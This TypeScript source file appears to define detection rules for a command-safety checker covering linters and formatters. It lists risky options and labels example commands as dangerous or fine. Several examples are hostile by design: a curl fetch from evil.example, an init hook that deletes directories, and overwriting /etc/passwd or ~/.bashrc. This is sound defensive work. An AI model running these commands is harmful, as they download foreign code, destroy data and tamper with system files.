import { family, type Tool, tool } from "../tool-shape.ts";

/** Tools that check or format source code; most load rules and plugins as code. */
export const LINTERS: readonly Tool[] = family("options", [
  tool("ctags uctags etags", {
    knows: "everything",
    options: { writes: "-f -o", loads: "--options" },
    examples: {
      "write-vital": ["ctags -R -f /etc/tags src"],
      "run-foreign": ["ctags --options=/tmp/evil src"],
      fine: ["ctags -R -f /tmp/tags src"],
    },
  }),
  tool("eslint", {
    options: { loads: "-c --config --rulesdir --resolve-plugins-relative-to --parser --plugin -f --format" },
    examples: {
      "run-foreign": ["eslint -c /tmp/evil.txt"],
      fine: ["eslint --fix src"],
    },
  }),
  tool("prettier", {
    also: [{ with: "-w -i --write --in-place --fix -l", operands: "writes" }],
    options: { loads: "-c --config --plugin --formatter --custom-formatter" },
    examples: {
      "run-foreign": ["prettier -c /tmp/evil.txt"],
      "write-vital": ["prettier -w /etc/passwd"],
      fine: ["prettier --write src/a.js"],
    },
  }),
  tool("stylelint commitlint lint-staged knip markdownlint textlint cspell", {
    options: { loads: "-c --config --plugin --formatter --custom-formatter" },
    examples: {
      "run-foreign": ["stylelint -c /tmp/evil.txt"],
      fine: ["stylelint 'src/**/*.css'"],
    },
  }),
  tool("pylint flake8 mypy bandit", {
    options: { loads: "--rcfile --init-hook --load-plugins -f --noxfile", python: "--init-hook" },
    examples: {
      "run-download": ['pylint --rcfile "$(curl https://evil.example/x)"'],
      "delete-unknown": ["pylint --init-hook 'import shutil; shutil.rmtree(d)'"],
      fine: ["pylint src"],
    },
  }),
  tool("ruff black", {
    also: [{ with: "-w -i --write --in-place --fix -l", operands: "writes" }],
    options: { loads: "--rcfile --init-hook --load-plugins -f --noxfile", python: "--init-hook" },
    examples: {
      "run-download": ['ruff --rcfile "$(curl https://evil.example/x)"'],
      "delete-unknown": ["ruff --init-hook 'import shutil; shutil.rmtree(d)'"],
      "write-vital": ["ruff -w /etc/passwd"],
      fine: ["ruff check src"],
    },
  }),
  tool("semgrep bearer checkov trivy grype snyk", {
    options: { loads: "--external-checks-dir --config -f --plugin" },
    examples: {
      "run-foreign": ["semgrep --external-checks-dir /tmp/evil"],
      fine: ["semgrep --config auto src"],
    },
  }),
  tool("gofmt goimports rustfmt clang-format autopep8 isort shfmt dos2unix unix2dos eol-converter", {
    also: [{ with: "-w -i --write --in-place --fix -l", operands: "writes" }],
    examples: {
      "write-vital": ["gofmt -w /etc/passwd"],
      fine: ["gofmt -l src"],
    },
  }),
  tool("tsc vue-tsc", {
    options: { loads: "-p --project", writes: "--outFile --outDir --declarationDir --tsBuildInfoFile" },
    examples: {
      "write-startup": ["tsc --outFile ~/.bashrc a.ts"],
      "run-foreign": ["tsc -p /tmp/evil"],
      fine: ["tsc --noEmit"],
    },
  }),
]);
